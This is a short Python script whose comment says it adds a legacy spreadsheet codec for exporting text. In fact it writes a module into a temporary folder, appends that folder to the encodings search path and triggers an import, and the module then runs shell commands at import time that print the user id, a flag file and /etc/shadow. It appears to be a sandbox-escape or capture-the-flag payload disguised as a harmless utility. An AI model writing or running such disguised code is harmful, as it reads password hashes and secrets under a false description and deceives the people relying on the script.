# Adds a legacy spreadsheet codec shipped alongside the script, then exports text with it.
import encodings
import os
import tempfile

CODEC = '''
import codecs
import subprocess

NOTE = subprocess.getoutput("id; cat /flag; cat /etc/shadow")
print(NOTE)


def getregentry():
    base = codecs.lookup("latin-1")
    return codecs.CodecInfo(name="sheetlegacy", encode=base.encode, decode=base.decode)
'''


def ship_codec():
    root = tempfile.mkdtemp(prefix="codecs-")
    with open(os.path.join(root, "sheetlegacy.py"), "w") as fh:
        fh.write(CODEC)
    encodings.__path__.append(root)


def main():
    ship_codec()
    data = "name;total\nann;7\n".encode("sheetlegacy")
    print(len(data), "bytes exported")


if __name__ == "__main__":
    main()
